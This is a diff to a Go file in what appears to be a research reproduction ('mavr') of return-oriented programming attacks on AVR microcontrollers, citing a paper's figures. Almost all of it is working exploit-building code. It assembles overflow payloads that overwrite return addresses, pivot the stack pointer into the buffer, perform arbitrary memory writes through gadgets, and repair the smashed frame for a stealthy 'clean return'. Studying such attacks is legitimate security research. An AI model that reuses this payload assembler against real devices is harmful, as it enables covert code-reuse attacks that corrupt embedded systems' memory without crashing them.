@@ -3,17 +3,49 @@ package attack
 import (
 	"fmt"
 
+	"mavr/internal/avr"
 	"mavr/internal/gadget"
 )
 
-// Write is one 3-byte arbitrary memory write performed via the
-// write_mem_gadget (std Y+1..Y+3 of the three stored registers).
+// This file is the one ROP chain assembler: every payload — BuildV1/V2/V3
+// over the canonical Fig. 4/5 gadgets and every chain synthesis
+// candidate — is a landing or a stealth chain over a writer shape and,
+// for stealth, a pivot shape.
+
+// Write is one 3-byte arbitrary memory write performed via a writer
+// gadget (std Y+q of three stored registers).
 type Write struct {
-	// Addr is the data-space address of the first written byte
-	// (the gadget's Y is set to Addr-1).
+	// Addr is the data-space address of the first written byte.
 	Addr uint16
 	// Vals are the bytes stored to Addr, Addr+1, Addr+2.
 	Vals [3]byte
+}
+
+// WriterShape is a composed write primitive: enter at LoadAddr to pop
+// LoadPops (which must cover Y and the stored registers), return into
+// StoreAddr to perform three stores at Y+QBase..Y+QBase+2, after which
+// the store entry's own TailPops run (junk) and its ret continues the
+// chain. Fused writers are Fig. 5-style — the store's own pop tail is
+// the loader; split writers borrow a separate pop-chain gadget.
+type WriterShape struct {
+	LoadAddr  uint32
+	LoadPops  []int
+	StoreAddr uint32
+	StoreRegs [3]int
+	QBase     int
+	TailPops  []int
+	Fused     bool
+}
+
+// fig5Writer is the paper's Fig. 5 write_mem as a fused writer: its pop
+// half loads Y and the stored registers, its store half writes
+// Y+1..Y+3 and falls through into the pop half again.
+func fig5Writer(wm *gadget.WriteMem) *WriterShape {
+	return &WriterShape{
+		LoadAddr: wm.PopsAddr, LoadPops: wm.PopRegs,
+		StoreAddr: wm.StoreAddr, StoreRegs: wm.StoreRegs, QBase: 1,
+		TailPops: wm.PopRegs, Fused: true,
+	}
 }
 
 // chain assembles the byte stream a pivoted stack pointer consumes:
@@ -40,69 +72,141 @@ func (c *chain) popFrame(popRegs []int, vals map[int]byte) {
 	}
 }
 
-// writeVals maps a Write onto the write_mem gadget's popped registers:
-// Y (r28/r29) aims at Addr-1 and the three store-source registers carry
-// the values.
-func writeVals(a *Analysis, w Write) map[int]byte {
-	y := w.Addr - 1
+// loadVals maps a Write onto a writer shape's loader frame: Y aims
+// at Addr-QBase and the store registers carry the values.
+func loadVals(wr *WriterShape, w Write) map[int]byte {
+	y := w.Addr - uint16(wr.QBase)
 	return map[int]byte{
-		28:                      byte(y),
-		29:                      byte(y >> 8),
-		a.WriteMem.StoreRegs[0]: w.Vals[0],
-		a.WriteMem.StoreRegs[1]: w.Vals[1],
-		a.WriteMem.StoreRegs[2]: w.Vals[2],
+		28:              byte(y),
+		29:              byte(y >> 8),
+		wr.StoreRegs[0]: w.Vals[0],
+		wr.StoreRegs[1]: w.Vals[1],
+		wr.StoreRegs[2]: w.Vals[2],
 	}
 }
 
-// buildChain produces the byte stream executed after an SP pivot lands
-// at (chainAddr-1): the incoming stk_move tail pops junk, then each
-// Write is performed by alternating the write_mem gadget's pop half and
-// store half, and the final store's pop frame loads r28/r29 with
-// finalSP so a terminating stk_move pivots there.
-//
-// With finalSP = S0-6 and the last two writes repairing the original
-// return address and saved frame pointer, the terminating stk_move's
-// own pops and ret consume repaired stack bytes — the paper's "clean
-// return".
-func buildChain(a *Analysis, writes []Write, finalSP uint16) ([]byte, error) {
+// appendWriterRounds emits the load/store alternation for writes onto
+// c, assuming the loader entry has already been returned into. final
+// maps the last loader frame (terminating pivot aim, or junk).
+func appendWriterRounds(c *chain, wr *WriterShape, writes []Write, final map[int]byte) {
+	c.popFrame(wr.LoadPops, loadVals(wr, writes[0]))
+	for _, w := range writes[1:] {
+		c.ret(wr.StoreAddr)
+		if !wr.Fused {
+			c.popFrame(wr.TailPops, nil)
+			c.ret(wr.LoadAddr)
+		}
+		c.popFrame(wr.LoadPops, loadVals(wr, w))
+	}
+	c.ret(wr.StoreAddr)
+	if !wr.Fused {
+		c.popFrame(wr.TailPops, nil)
+		if final != nil {
+			c.ret(wr.LoadAddr)
+		}
+	}
+	if final != nil {
+		c.popFrame(wr.LoadPops, final)
+	}
+}
+
+// landingPayloadFor builds a V1-grade payload: the overwritten return
+// address enters the writer, the writes execute, the chain ends in
+// garbage and the board crashes with the write landed.
+func landingPayloadFor(a *Analysis, wr *WriterShape, writes ...Write) ([]byte, error) {
 	if len(writes) == 0 {
 		return nil, fmt.Errorf("attack: chain needs at least one write")
 	}
 	var c chain
-	// Consumed by the tail pops of the stk_move gadget that pivoted here.
-	c.popFrame(a.StkMove.PopRegs, nil)
-	// Enter the write_mem gadget at its pop half to load the first
-	// write's registers.
-	c.ret(a.WriteMem.PopsAddr)
-	c.popFrame(a.WriteMem.PopRegs, writeVals(a, writes[0]))
-	for _, w := range writes[1:] {
-		// Each store half performs the pending write, then its pop tail
-		// loads the next one.
-		c.ret(a.WriteMem.StoreAddr)
-		c.popFrame(a.WriteMem.PopRegs, writeVals(a, w))
+	c.ret(wr.LoadAddr)
+	appendWriterRounds(&c, wr, writes, nil)
+	if wr.Fused {
+		c.popFrame(wr.LoadPops, nil)
 	}
-	// Final store performs the last write; its pop tail aims the
-	// terminating stk_move at finalSP.
-	c.ret(a.WriteMem.StoreAddr)
-	c.popFrame(a.WriteMem.PopRegs, map[int]byte{
+	c.ret(0x3FFFFF)
+
+	p := make([]byte, a.PayloadLen(), 256)
+	for i := range p {
+		p[i] = 0x42 // garbage filler, as in the paper's description
+	}
+	copy(p[a.retSlot():], c.buf[:3])
+	p = append(p, c.buf[3:]...)
+	if len(p) > 255 {
+		return nil, ErrPayloadTooLong
+	}
+	// The chain above the return slot must stay inside SRAM.
+	if int(a.S0)+len(p)-a.retSlot() > avr.DataSpaceSize-1 {
+		return nil, ErrPayloadTooLong
+	}
+	return p, nil
+}
+
+// stealthPayloadFor builds a V2-grade payload: pivot into the buffer,
+// perform the writes, repair the frame for pv and return cleanly.
+func stealthPayloadFor(a *Analysis, pv *gadget.StkMove, wr *WriterShape, userWrites ...Write) ([]byte, error) {
+	return pivotPayload(a, pv, stealthChain(a, pv, wr, userWrites), a.BufAddr)
+}
+
+// stealthChain is the byte stream executed after pv pivots SP just
+// below it: pv's own tail pops junk, the writer performs userWrites and
+// then the repair writes, and the final loader frame aims a second pv
+// at the clean-return SP, whose pops and ret consume the repaired
+// stack bytes — the paper's "clean return".
+func stealthChain(a *Analysis, pv *gadget.StkMove, wr *WriterShape, userWrites []Write) []byte {
+	writes := append(append([]Write(nil), userWrites...), repairWritesFor(a, pv)...)
+	finalSP := cleanSPFor(a, pv)
+	var c chain
+	c.popFrame(pv.PopRegs, nil)
+	c.ret(wr.LoadAddr)
+	appendWriterRounds(&c, wr, writes, map[int]byte{
 		28: byte(finalSP),
 		29: byte(finalSP >> 8),
 	})
-	c.ret(a.StkMove.Addr)
-	return c.buf, nil
+	c.ret(pv.Addr)
+	return c.buf
 }
 
-// repairWrites are the write_mem invocations that restore the smashed
-// frame (§IV-D). The region [cleanReturnSP+1 .. S0+3] must afterwards
-// hold: one byte per register the terminating stk_move pops (restoring
-// the caller's saved r28/r29) followed by the handler's original 3-byte
-// return address, so that the final pivot + pops + ret reproduce a
-// normal handler return (SP == S0+3, PC == OrigRet, Y == caller's Y).
-func repairWrites(a *Analysis) []Write { return repairWritesFor(a, a.StkMove) }
+// pivotPayload lays out an overflow payload that embeds ch at the
+// buffer start, loads the saved slots of the registers pv writes to
+// SPH/SPL with pivotTo-1 and overwrites the return address with pv. The
+// handler's epilogue then pivots SP to pivotTo-1 and the chain at
+// pivotTo executes.
+func pivotPayload(a *Analysis, pv *gadget.StkMove, ch []byte, pivotTo uint16) ([]byte, error) {
+	hSlot, lSlot := a.popSlot(pv.SPHReg), a.popSlot(pv.SPLReg)
+	if hSlot < 0 || lSlot < 0 {
+		return nil, fmt.Errorf("%w: r%d/r%d", ErrPivotUnsaved, pv.SPHReg, pv.SPLReg)
+	}
+	// The final ret slot of an in-buffer chain may overlap other pop
+	// slots (harmless) but never the pivot-register or return slots.
+	limit := hSlot
+	if lSlot < limit {
+		limit = lSlot
+	}
+	if len(ch) > limit {
+		return nil, fmt.Errorf("%w: chain %d bytes, frame allows %d", ErrPayloadTooLong, len(ch), limit)
+	}
+	p := make([]byte, a.PayloadLen())
+	for i := range p {
+		p[i] = 0x42
+	}
+	copy(p, ch)
+	pivot := pivotTo - 1
+	p[lSlot] = byte(pivot)
+	p[hSlot] = byte(pivot >> 8)
+	rs := a.retSlot()
+	p[rs] = byte(pv.Addr >> 16)
+	p[rs+1] = byte(pv.Addr >> 8)
+	p[rs+2] = byte(pv.Addr)
+	return p, nil
+}
 
-// repairWritesFor computes the repair for an arbitrary terminating
-// pivot shape — chain synthesis pairs the frame geometry with candidate
-// pivots that are not the canonical Fig. 4 gadget.
+// repairWritesFor are the writer invocations that restore the smashed
+// frame (§IV-D) for the terminating pivot pv. The region
+// [cleanSPFor+1 .. S0+3] must afterwards hold: one byte per register pv
+// pops (restoring the caller's saved registers) followed by the
+// handler's original 3-byte return address, so that the final pivot +
+// pops + ret reproduce a normal handler return (SP == S0+3,
+// PC == OrigRet, Y == caller's Y).
 func repairWritesFor(a *Analysis, pv *gadget.StkMove) []Write {
 	popLen := len(pv.PopRegs)
 	start := cleanSPFor(a, pv) + 1
@@ -138,13 +242,10 @@ func repairWritesFor(a *Analysis, pv *gadget.StkMove) []Write {
 	return out
 }
 
-// cleanReturnSP is where the terminating stk_move must point so its
-// pops consume the repaired saved registers and its ret consumes the
+// cleanSPFor is where the terminating pivot pv must point so its pops
+// consume the repaired saved registers and its ret consumes the
 // repaired return address, leaving SP exactly where a normal handler
 // return would (S0+3).
-func (a *Analysis) cleanReturnSP() uint16 { return cleanSPFor(a, a.StkMove) }
-
-// cleanSPFor is cleanReturnSP for an arbitrary terminating pivot shape.
 func cleanSPFor(a *Analysis, pv *gadget.StkMove) uint16 {
 	return a.S0 - uint16(len(pv.PopRegs))
 }
